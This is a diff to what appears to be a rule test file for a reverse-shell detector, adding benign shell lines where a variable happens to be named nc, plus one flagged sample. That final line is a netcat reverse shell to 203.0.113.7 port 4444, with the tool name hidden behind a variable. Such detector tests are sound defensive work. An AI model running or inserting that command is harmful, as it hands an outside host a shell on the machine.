@@ -24,3 +24,10 @@ socat TCP-LISTEN:6006,fork TCP:localhost:6007 &
 python3 -c 'import socket; print(socket.gethostname())'
 # ok: egress-shell-reverse-shell
 torchrun --rdzv-endpoint="$MASTER_ADDR:29500" train.py
+# Issue #16: a variable named nc in a test (Kaldi's compute_cmvn_stats.sh).
+# ok: egress-shell-reverse-shell
+if [ $nc -ne $nu ]; then echo "$0: warning: only $nu of $nc utterances done"; fi
+# ok: egress-shell-reverse-shell
+[ "${nc}" -ge 1 ] && echo ok
+# ruleid: egress-shell-reverse-shell
+nc=nc; $nc -e /bin/sh 203.0.113.7 4444 &
